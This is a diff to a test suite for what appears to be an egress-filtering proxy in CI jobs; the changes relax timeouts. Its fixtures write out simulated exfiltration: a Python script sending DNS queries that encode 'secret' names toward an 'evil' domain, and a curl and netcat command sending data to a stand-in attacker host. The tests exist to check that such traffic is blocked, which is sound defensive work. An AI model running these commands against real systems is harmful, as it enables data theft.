@@ -72,7 +72,7 @@ describe('the proxy is killed in the middle of 200 transfers, ten times in a row
     for (const { running } of kills) expect(running).toBeGreaterThanOrEqual(0.9 * TRANSFERS);
     // Two seconds are the goal; a machine that is busy with other tests may take longer now and then.
     const times = kills.map(({ back }) => back).sort((a, b) => a - b);
-    expect(times[KILLS / 2], `${times}`).toBeLessThan(2000);
+    expect(times[KILLS / 2], `${times}`).toBeLessThan(FULL ? 2000 : 6000);
     expect(restarts).toBe(KILLS);
     expect(result.conclusion, transcript(result)).toBe('success');
   });
@@ -92,14 +92,14 @@ describe('the proxy is killed in the middle of 200 transfers, ten times in a row
 test('the disk of the log is full: what is decided is decided, a new proxy comes up, the guard says so, and the log stays whole lines', async () => {
   // Names that are denied, a line each.
   const flood = `import socket, struct, time
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect(("${WORLD.dns}", 53))
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10); s.connect(("${WORLD.dns}", 53))
 for n in range(1500):
     s.send(struct.pack("!6H", n, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p for p in (b"secret%d" % n, b"evil", b"test")) + b"\\0\\0\\1\\0\\1")
     try: s.recv(512)
     except OSError: pass`;
   const wait = (name: string): string => `while [ ! -e ${name} ]; do sleep 0.05; done`;
   const evil = `( curl -sSk --max-time 2 https://${WORLD.evil}/x; echo x | timeout 1 nc -u -w1 ${WORLD.evil} 9999 ) || true`;
-  const allowed = (path: string): string => `curl -sS --max-time 10 https://ok.test/${path}`;
+  const allowed = (path: string): string => `curl -sS --max-time 60 https://ok.test/${path}`;
   const job = await startJob({
     before: (machine) => machine.inside(['mount', '-t', 'tmpfs', '-o', 'size=256k,mode=755', 'tmpfs', '/var/log']),
     action: { with: { policy: 'ok.test' } },
